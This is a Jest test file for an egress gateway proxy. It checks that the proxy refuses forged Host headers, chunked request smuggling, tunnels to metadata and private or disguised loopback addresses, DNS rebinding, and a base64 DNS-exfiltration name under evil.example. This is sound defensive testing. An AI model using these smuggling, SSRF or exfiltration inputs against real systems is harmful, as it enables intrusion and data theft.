import { createServer, type IncomingMessage, type Server } from 'node:http'
import {
  type AddressInfo,
  connect,
  createServer as createTcpServer,
  type Server as TcpServer
} from 'node:net'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import type { GatewayRule } from '../../../../src/contracts/gateway/rules.js'
import type { Gateway, GatewayOptions } from '../../../../src/network/gateway/gateway.js'
import { raw, reasonOf, startOnLoopback, statusOf } from '../start.js'

let origin: Server
let echo: TcpServer
let webPort: number
let echoPort: number
let seen: Array<{ method: string; url: string; headers: IncomingMessage['headers']; body: string }>
let gateway: Gateway | undefined

beforeEach(async () => {
  seen = []
  origin = createServer((request, response) => {
    let body = ''
    request.on('data', chunk => {
      body += chunk
    })
    request.on('end', () => {
      seen.push({ method: request.method!, url: request.url!, headers: request.headers, body })
      response.setHeader('connection', 'x-secret-hop')
      response.setHeader('x-secret-hop', '1')
      response.end('hello from the origin')
    })
  })
  // Sends back what comes; ends its side when the other has.
  echo = createTcpServer({ allowHalfOpen: true }, socket => {
    socket.on('error', () => {})
    socket.pipe(socket)
  })
  for (const server of [origin, echo]) await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  webPort = (origin.address() as AddressInfo).port
  echoPort = (echo.address() as AddressInfo).port
})

afterEach(async () => {
  await gateway?.stop()
  gateway = undefined
  origin.closeAllConnections()
  await Promise.all([origin, echo].map(server => new Promise(done => server.close(done))))
})

/** A proxy whose names all lead to where `addresses` says. */
const start = async (
  allow: GatewayRule[],
  addresses: readonly string[] = ['127.0.0.1'],
  more: { deny?: GatewayRule[]; options?: GatewayOptions } = {}
): Promise<number> => {
  const lookup = async () => addresses
  gateway = await startOnLoopback({ rules: { allow, deny: more.deny ?? [] } }, { lookup, ...more.options })
  return gateway.ready.proxyPort
}

/** The name and, since it leads to this machine, its address. */
const listed = (port: number): GatewayRule[] => [
  { host: 'repo.example.com', ports: [port] },
  { host: '127.0.0.1', ports: [port] }
]

const get = (port: number, target: string, headers = ''): Promise<string> =>
  raw(port, `GET ${target} HTTP/1.1\r\nHost: whatever.example\r\nConnection: close\r\n${headers}\r\n`)

const hosts = () => gateway!.account().hosts

describe('plain HTTP', () => {
  it('goes to an allowed host, with the Host of the target, whatever the Host header says', async () => {
    const port = await start(listed(webPort))
    const answer = await get(
      port,
      `http://REPO.example.com.:${webPort}/a/../b?c`,
      'Proxy-Authorization: Basic eA==\r\nX-Hop: 1\r\nConnection: x-hop\r\n'
    )
    expect(statusOf(answer)).toBe(200)
    expect(answer).toContain('hello from the origin')
    expect(answer).not.toContain('x-secret-hop')
    expect(seen).toHaveLength(1)
    expect(seen[0]).toMatchObject({ url: '/a/../b?c', headers: { host: `repo.example.com:${webPort}` } })
    expect(seen[0]!.headers).not.toHaveProperty('proxy-authorization')
    expect(seen[0]!.headers).not.toHaveProperty('x-hop')
    expect(hosts()).toMatchObject([
      { host: 'repo.example.com', port: webPort, requests: 1, refused: 0, bytesDown: 21 }
    ])
  })

  it('a forged Host makes nothing allowed', async () => {
    const port = await start(listed(webPort))
    const forged = `GET http://evil.example:${webPort}/ HTTP/1.1\r\nHost: repo.example.com:${webPort}\r\nConnection: close\r\n\r\n`
    const answer = await raw(port, forged)
    expect(statusOf(answer)).toBe(403)
    expect(reasonOf(answer)).toBe('not-allowed')
    expect(seen).toHaveLength(0)
    expect(hosts()).toMatchObject([{ host: 'evil.example', refused: 1, reasons: { 'not-allowed': 1 } }])
  })

  it('a body without a length is framed again, so that it is no second request', async () => {
    const port = await start(listed(webPort))
    const inner = 'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
    const answer = await get(
      port,
      `http://repo.example.com:${webPort}/`,
      `Transfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n`
    )
    expect(statusOf(answer)).toBe(200)
    expect(seen.map(({ url }) => url)).toEqual(['/'])
    expect(seen[0]!.body).toBe(inner)
  })

  it('two lengths, or a length beside chunks, are refused', async () => {
    const port = await start(listed(webPort))
    for (const headers of [
      'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n',
      'Content-Length: 5\r\nContent-Length: 6\r\n'
    ]) {
      expect(statusOf(await get(port, `http://repo.example.com:${webPort}/`, headers))).toBe(400)
    }
    expect(seen).toHaveLength(0)
  })

  it('passes a posted body and several requests on one connection', async () => {
    const port = await start(listed(webPort))
    const target = `http://repo.example.com:${webPort}`
    const post = `POST ${target}/1 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello`
    const last = `GET ${target}/2 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`
    const answer = await raw(port, post + last)
    expect(answer.match(/hello from the origin/g)).toHaveLength(2)
    expect(seen).toMatchObject([{ url: '/1', body: 'hello' }, { url: '/2' }])
    expect(hosts()).toMatchObject([{ requests: 2, bytesUp: 5, bytesDown: 42 }])
  })

  it('a request for the proxy itself is none for a proxy', async () => {
    const port = await start(listed(webPort))
    expect(reasonOf(await get(port, '/'))).toBe('not-for-a-proxy')
    expect(reasonOf(await get(port, '/index.html'))).toBe('not-for-a-proxy')
  })

  it('what Node reads and does not write ends that request and nothing else', async () => {
    const odd = createTcpServer(socket => {
      socket.on('error', () => {})
      socket.once('data', () => socket.end('HTTP/1.1 099 Odd\r\nContent-Length: 0\r\n\r\n'))
    })
    await new Promise<void>(done => odd.listen(0, '127.0.0.1', done))
    const at = (odd.address() as AddressInfo).port
    const port = await start([...listed(at), ...listed(webPort)])
    await get(port, `http://repo.example.com:${at}/`).catch(() => {})
    await get(port, `http://repo.example.com:${webPort}/\u00e9`).catch(() => {})
    expect(statusOf(await get(port, `http://repo.example.com:${webPort}/`))).toBe(200)
    odd.close()
  })

  it('what is allowed and does not answer is a bad gateway, not a refusal', async () => {
    const port = await start([{ host: '127.0.0.1', ports: [1] }])
    const answer = await get(port, 'http://127.0.0.1:1/')
    expect(statusOf(answer)).toBe(502)
    expect(answer).toContain('ECONNREFUSED')
    expect(hosts()).toMatchObject([{ refused: 0, unreachable: 1 }])
  })
})

/** Opens a tunnel; gives what the proxy said and, where it opened, what comes of `text`. */
const tunnel = (port: number, target: string, text: string): Promise<{ said: string; got: string }> =>
  new Promise((resolve, reject) => {
    const socket = connect({ port, host: '127.0.0.1', allowHalfOpen: true })
    socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
    let all = ''
    let sent = false
    socket.on('data', chunk => {
      all += chunk.toString('latin1')
      if (!sent && all.startsWith('HTTP/1.1 200')) {
        sent = true
        socket.end(text)
      }
    })
    socket.on('end', () => {
      socket.end()
      const at = all.indexOf('\r\n\r\n') + 4
      resolve({ said: all.slice(0, at), got: all.slice(at) })
    })
    socket.on('error', reject)
  })

describe('CONNECT', () => {
  it('joins both sides, each of which ends by itself, and counts what passes', async () => {
    const port = await start(listed(echoPort))
    const text = 'x'.repeat(300_000)
    const { got } = await tunnel(port, `repo.example.com:${echoPort}`, text)
    expect(got).toBe(text)
    expect(hosts()).toMatchObject([
      { host: 'repo.example.com', port: echoPort, requests: 1, bytesUp: text.length, bytesDown: text.length }
    ])
  })

  it.each<[string, (web: number) => GatewayRule[], string[], string]>([
    ['a name that is not listed', () => [], ['93.184.215.14'], 'not-allowed'],
    ['another port of an allowed host', () => ['repo.example.com'], ['93.184.215.14'], 'port'],
    [
      'an allowed name that leads to loopback',
      web => [{ host: 'repo.example.com', ports: [web] }],
      ['127.0.0.1'],
      'private-address'
    ],
    [
      'to the metadata service',
      web => [{ host: 'repo.example.com', ports: [web] }],
      ['169.254.169.254'],
      'private-address'
    ],
    [
      'to a private address in IPv6 clothes',
      web => [{ host: 'repo.example.com', ports: [web] }],
      ['::ffff:10.0.0.1'],
      'private-address'
    ],
    [
      'to a wire server',
      web => [{ host: 'repo.example.com', ports: [web] }],
      ['168.63.129.16'],
      'private-address'
    ],
    [
      'to unique local IPv6',
      web => [{ host: 'repo.example.com', ports: [web] }],
      ['fd00:ec2::254'],
      'private-address'
    ]
  ])('refuses %s', async (_name, allow, addresses, reason) => {
    const port = await start(allow(echoPort), addresses)
    const { said } = await tunnel(port, `repo.example.com:${echoPort}`, '')
    expect(statusOf(said)).toBe(403)
    expect(reasonOf(said)).toBe(reason)
    expect(hosts()).toMatchObject([{ host: 'repo.example.com', refused: 1, reasons: { [reason]: 1 } }])
  })

  it.each([
    '127.0.0.1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '10.0.0.1',
    '169.254.169.254',
    '[fe80::1]',
    '0.0.0.0',
    '[::]'
  ])('refuses the address %s, since only names are listed', async address => {
    const port = await start(['*.example.com'])
    expect(reasonOf((await tunnel(port, `${address}:443`, '')).said)).toBe('not-allowed')
  })

  it.each([
    '127.1:443',
    '2130706433:443',
    '0x7f000001:443',
    'user@repo.example.com:443',
    ':443',
    '.:443',
    'repo.example.com'
  ])('cannot read %s', async target => {
    const port = await start(['repo.example.com', '127.0.0.0/8'])
    const { said } = await tunnel(port, target, '')
    expect(statusOf(said)).toBe(400)
  })

  it('never reaches the gateway itself, under no name and no address', async () => {
    const port = await start(['127.0.0.0/8'])
    const own = [port, gateway!.ready.modelPort]
    const ports = [...own]
    gateway!.setRules({
      allow: ['127.0.0.0/8', '::1', '0.0.0.0/8', 'gateway.example.com'].map(host => ({ host, ports })),
      deny: []
    })
    for (const at of own) {
      for (const host of [
        '127.0.0.1',
        '127.0.0.2',
        '[::1]',
        '0.0.0.0',
        'gateway.example.com',
        '[::ffff:127.0.0.1]'
      ]) {
        const { said } = await tunnel(port, `${host}:${at}`, '')
        expect([host, reasonOf(said)]).toEqual([host, 'gateway-itself'])
      }
    }
  })

  it('connects to what was checked: a name is looked up once', async () => {
    let lookups = 0
    // The second answer is where a rebinding attack would have it go.
    const lookup = async () => (lookups++ === 0 ? ['127.0.0.1'] : ['169.254.169.254'])
    const port = await start(listed(echoPort), [], { options: { lookup } })
    expect((await tunnel(port, `repo.example.com:${echoPort}`, 'ping')).got).toBe('ping')
    expect(lookups).toBe(1)
  })

  it('looks up no name that is not listed: the question alone would carry a message out', async () => {
    const asked: string[] = []
    const lookup = async (name: string) => {
      asked.push(name)
      return ['127.0.0.1']
    }
    const port = await start(listed(echoPort), [], { options: { lookup } })
    await tunnel(port, 'c2VjcmV0.evil.example:443', '')
    expect(asked).toEqual([])
  })

  it('takes the allowed addresses of a name and leaves the others', async () => {
    const port = await start(listed(echoPort), ['10.0.0.1', '127.0.0.1', 'fe80::1'])
    expect((await tunnel(port, `repo.example.com:${echoPort}`, 'ping')).got).toBe('ping')
  })

  it('a name without an address is a bad gateway', async () => {
    const port = await start(['repo.example.com'], [], {
      options: { lookup: () => Promise.reject(Object.assign(new Error('no'), { code: 'ENOTFOUND' })) }
    })
    const { said } = await tunnel(port, 'repo.example.com:443', '')
    expect(statusOf(said)).toBe(502)
  })

  it('ends open connections when the rules change, and the new ones hold', async () => {
    const port = await start(listed(echoPort))
    const socket = connect(port, '127.0.0.1')
    socket.on('error', () => {})
    socket.write(`CONNECT repo.example.com:${echoPort} HTTP/1.1\r\n\r\n`)
    await new Promise(done => socket.once('data', done))
    const ended = new Promise(done => socket.once('close', done))
    gateway!.setRules({ allow: [], deny: [] })
    await ended
    expect(reasonOf((await tunnel(port, `repo.example.com:${echoPort}`, '')).said)).toBe('not-allowed')
  })
})

it('counts hosts beyond a thousand without their names', async () => {
  const port = await start([])
  const requests = Array.from(
    { length: 1010 },
    (_, i) => `GET http://h${i}.evil.example/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`
  )
  for (let at = 0; at < requests.length; at += 50)
    await Promise.all(requests.slice(at, at + 50).map(text => raw(port, text)))
  expect(hosts()).toHaveLength(1000)
  expect(gateway!.account().otherHosts).toEqual({ requests: 10, refused: 10 })
})

describe("through a network's own proxy", () => {
  let upstream: Server
  let asked: string[]

  beforeEach(async () => {
    asked = []
    upstream = createServer((request, response) => {
      asked.push(`${request.method} ${request.url} ${request.headers['proxy-authorization']}`)
      response.end('from upstream')
    })
    upstream.on('connect', (request, socket) => {
      asked.push(`CONNECT ${request.url} ${request.headers['proxy-authorization']}`)
      const onward = connect(echoPort, '127.0.0.1', () => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n')
        onward.pipe(socket)
        socket.pipe(onward)
      })
    })
    await new Promise<void>(done => upstream.listen(0, '127.0.0.1', done))
  })
  afterEach(() => {
    upstream.closeAllConnections()
    upstream.close()
  })

  it('sends names on, also those that only that proxy can resolve; rules hold as ever', async () => {
    const { port } = upstream.address() as AddressInfo
    gateway = await startOnLoopback(
      {
        rules: {
          allow: [
            'repo.example.com',
            { host: 'direct.example.com', ports: [webPort] },
            { host: '127.0.0.1', ports: [webPort] }
          ]
        },
        upstreamProxy: { url: `http://user:p%40ss@127.0.0.1:${port}`, noProxy: 'direct.example.com' }
      },
      {
        lookup: async name => {
          if (name === 'direct.example.com') return ['127.0.0.1']
          throw Object.assign(new Error('no'), { code: 'ENOTFOUND' })
        }
      }
    )
    const { proxyPort } = gateway.ready
    const basic = `Basic ${Buffer.from('user:p@ss').toString('base64')}`
    expect((await tunnel(proxyPort, 'repo.example.com:443', 'ping')).got).toBe('ping')
    expect(await get(proxyPort, 'http://repo.example.com/x')).toContain('from upstream')
    expect(await get(proxyPort, `http://direct.example.com:${webPort}/`)).toContain('hello from the origin')
    expect(reasonOf((await tunnel(proxyPort, 'evil.example:443', '')).said)).toBe('not-allowed')
    expect(asked).toEqual([`CONNECT repo.example.com:443 ${basic}`, `GET http://repo.example.com/x ${basic}`])
  })
})
